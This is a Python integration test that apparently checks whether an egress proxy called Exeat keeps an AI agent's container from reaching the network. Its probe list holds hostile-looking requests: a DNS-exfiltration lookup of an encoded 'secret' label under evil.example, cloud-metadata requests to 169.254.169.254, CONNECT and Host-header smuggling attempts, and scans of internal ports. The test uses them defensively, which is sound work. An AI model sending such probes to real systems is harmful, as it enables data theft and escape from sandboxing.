"""docker-compose.yml as it is shipped, with a real Docker engine: an agent whose only neighbour is Exeat.

The engine's namespace plays the Internet and the Docker host at once. A container on the other network reaches both, which
shows that the probes can tell; the agent's container reaches neither.
"""

import json
import os

import engine
from network import API, OUTSIDE_V4, OUTSIDE_V6, POLICY
from world import CANARY, HERE, PYTHON, ROOT, expect, read, run

EXEAT, HOST = "10.203.0.2", "10.204.0.1"
SECTIONS = """
[agents.claude]
groups = ["network"]
[credentials.api]
kind = "bearer"
secret = "sealed:api"
hosts = ["api.test"]
[network]
allow-private = ["api.test:443"]
connect-to = { "api.test:443" = "10.204.0.1:8443" }
upstream-roots = ["root.pem"]
"""


def configure(world):
    """The listeners that are shipped, and an agent, a credential and a policy for the test."""
    shipped = read(ROOT / "configs/docker.toml")
    run(world.binary, "-c", ROOT / "configs/docker.toml", "check")
    world.write("compose/docker.toml", shipped[:shipped.index("[agents.")] + SECTIONS)
    world.write("compose/root.pem", read(world.folder / "root.pem"))
    world.write("compose/tools/api.toml", API)
    world.write("compose/policy.toml", POLICY.replace('"registry.*"', '"api.items"'))


def images(world):
    build = world.folder / "build"
    build.mkdir()
    engine.stripped(world, world.binary).rename(build / "exeat")
    # What Debian's image would have: a shell, the system's roots, and the folders that the volumes take over.
    engine.image(world, "exeat-test-runtime", {
        **engine.busybox("sh"), "/etc/ssl/certs/ca-certificates.crt": "/etc/ssl/certs/ca-certificates.crt",
        "/exeat": build / "exeat"}, owned={"var/lib/exeat": 0o700, "roots": 0o755})
    run(engine.DOCKER, "build", "-q", "-t", "exeat-test", "-f", ROOT / "Dockerfile", "--build-arg", "BINARY=given",
        "--build-arg", "RUNTIME=exeat-test-runtime", build,
        env={**os.environ, "DOCKER_HOST": world.docker_host, "HOME": str(world.folder), "DOCKER_BUILDKIT": "1"})
    engine.image(world, "exeat-test-agent", {
        **engine.busybox("sh", "sleep", "env", "ls", "grep"), "/usr/bin/curl": "/usr/bin/curl", **engine.python(),
        "/probe.py": HERE / "probe.py"})


def compose(world, *argv, **options):
    env = {**os.environ, "DOCKER_HOST": world.docker_host, "HOME": str(world.folder), "EXEAT_IMAGE": "exeat-test",
           "AGENT_IMAGE": "exeat-test-agent", "EXEAT_CONFIGURATION": str(world.folder / "compose"), "COMPOSE_PROJECT_NAME": "exeattest"}
    return run("/usr/bin/docker-compose", "-f", ROOT / "docker-compose.yml", "-f", HERE / "compose.yml", *argv, env=env, **options)


def inside(world, *argv, **options):
    return compose(world, "exec", "-T", "agent", *argv, **options)


def outside(world):
    """The Internet and the host's own servers, where the engine runs."""
    if "engine" not in world.namespaces:
        world.namespace("engine")
        world.certificates("api.test")
        engine.start(world, "engine")
    for address in OUTSIDE_V4, OUTSIDE_V6, "8.8.8.8":
        world.inside("engine", "ip", "addr", "add", address, "dev", "lo", *(["nodad"] if ":" in address else []))
    server = world.start("engine", PYTHON, HERE / "outside.py", OUTSIDE_V4, OUTSIDE_V6, "8.8.8.8", log="outside-docker.log")
    world.until(server, "the simulated Internet", lambda: "ready" in read(server.log))
    upstream = world.start("engine", PYTHON, HERE / "upstream.py", "0.0.0.0", 8443, "api.test.pem", "api.test.key", "seen-docker.jsonl",
                           log="upstream-docker.log")
    world.until(upstream, "the upstream", lambda: "ready" in read(upstream.log))


def probes():
    tries = []

    def add(what, kind, to, port=0, **more):
        tries.append({"id": f"{what} {to}", "kind": kind, "to": to, "port": port, "silence": True, **more})

    for to in OUTSIDE_V4, OUTSIDE_V6:
        for port in 22, 80, 443, 853, 8080:
            add(f"tcp {port}", "tcp", to, port)
        for port in 123, 443:
            add(f"udp {port}", "udp", to, port)
        add("icmp", "icmp", to)
    for to in "10.203.0.1", HOST, "172.17.0.1", "10.204.0.2", "10.204.0.3":
        add("the host, or Exeat's other side", "tcp", to, 8443)
        add("the host, or Exeat's other side", "tcp", to, 8080)
    for resolver in "8.8.8.8", "127.0.0.11", EXEAT:
        for name in "c2VjcmV0.evil.example", "metadata.google.internal", "api.test":
            for over in "udp", "tcp":
                add(f"{name} over {over} from", "dns", resolver, 53, name=name, over=over, ours=[EXEAT])
    add("QUIC to", "udp", EXEAT, 443, silence=False)
    for host in "evil.example", "169.254.169.254", "127.0.0.1", HOST, f"{HOST}:8443", "10.203.0.2:8080", "[::ffff:7f00:1]":
        add(f"http for {host} at", "http", EXEAT, 80, host=host)
        add(f"proxied http for {host} at", "http", EXEAT, 8080, request=f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")
    for target in "evil.example:443", "api.test:22", f"{HOST}:8443", "127.0.0.1:8080", "10.203.0.2:53", "169.254.169.254:80":
        add(f"CONNECT {target} at", "http", EXEAT, 8080, request=f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
    add("tls without a name at", "https", EXEAT, 443)
    add("one name in TLS, another in Host, at", "https", EXEAT, 443, name="api.test", host="evil.example")
    for port in 22, 2375, 8088, 8089, 8090:
        add(f"another port {port} of", "tcp", EXEAT, port)
    return tries


def faithful(world):
    url = "https://api.test/items"
    for way, words in ("through the proxy variables", []), ("without them", ["--noproxy", "*"]):
        done = inside(world, "curl", "-sS", "--max-time", "20", "-w", "\n%{http_code}", *words, url)
        expect(done.stdout.endswith("\n200") and '"items": [1, 2, 3]' in done.stdout, f"an allowed call {way}", done.stdout)
        expect(CANARY not in done.stdout + done.stderr, f"the credential came back {way}", done.stdout)
        refused = inside(world, "curl", "-sS", "-X", "DELETE", "-w", "\n%{http_code}", *words, url)
        expect(refused.stdout.endswith("\n403") and "policy-forbids" in refused.stdout, f"a refused call {way}", refused.stdout)
    seen = [json.loads(line)["authorization"] for line in read(world.folder / "seen-docker.jsonl").splitlines()]
    expect(seen == [f"Bearer {CANARY}"] * 2, "the credential was not put in, or a refused call arrived", seen)


def held(world):
    """Exeat runs as nobody with nothing, and the agent is given the public part of the root and no more."""
    exeat = compose(world, "ps", "-q", "exeat").stdout.strip()
    status = engine.docker(world, "exec", exeat, "sh", "-c", "while read -r line; do echo $line; done </proc/1/status").stdout
    for line in "CapEff: 0000000000000000", "CapBnd: 0000000000000000", "NoNewPrivs: 1", "Uid: 65532 65532 65532 65532":
        expect(line in status, f"Exeat's container should have `{line}`", status)
    wrote = engine.docker(world, "exec", exeat, "sh", "-c", ": >/usr/local/bin/exeat", check=False)
    expect(wrote.returncode != 0, "Exeat's container can be written to")
    listed = inside(world, "ls", "/roots").stdout.split()
    expect(listed == ["bundle.pem", "root.pem"], "the agent sees more than the roots", listed)
    v6 = inside(world, "sh", "-c", "read -r line </proc/net/if_inet6 && echo $line", check=False).stdout
    expect(not v6, "the agent has an IPv6 address, and by it a neighbour", v6)
    keys = inside(world, "grep", "-rl", "PRIVATE", "/roots", check=False).stdout
    expect(not keys, "the agent sees a key", keys)


def check(world, say):
    outside(world)
    configure(world)
    images(world)
    world.undo.append(lambda: compose(world, "kill", check=False))
    compose(world, "run", "--rm", "-T", "exeat", "secret", "set", "api", input=CANARY)
    compose(world, "up", "-d")
    say("docker-compose up, from images that were made here")
    faithful(world)
    say("allowed and refused calls, through the proxy variables and without them")
    tries = probes()
    control = [one for one in tries if one["to"] in (OUTSIDE_V4, HOST) and one["port"] in (22, 80, 123, 8443)]
    found = engine.docker(world, "run", "--rm", "-i", "--network", "exeattest_outside", "exeat-test-agent", "python3", "/probe.py",
                          input=json.dumps(control))
    shut = [line for line in found.stdout.splitlines() if json.loads(line)["state"] != "open"]
    expect(not shut and len(found.stdout.splitlines()) == len(control) > 3, "another container should get through", found.stdout)
    done = inside(world, "python3", "/probe.py", input=json.dumps(tries))
    found = [json.loads(line) for line in done.stdout.splitlines()]
    expect(len(found) == len(tries), "a probe ended early", done.stderr)
    ajar = [one for one in found if one["state"] != "closed"]
    expect(not ajar, "ways out that are open", "\n".join(map(str, ajar)))
    say(f"{len(found)} ways out are shut; {len(control)} of them are open for a container that is not the agent")
    held(world)
    say("Exeat runs without capabilities in a read-only container; the agent has the public roots only")
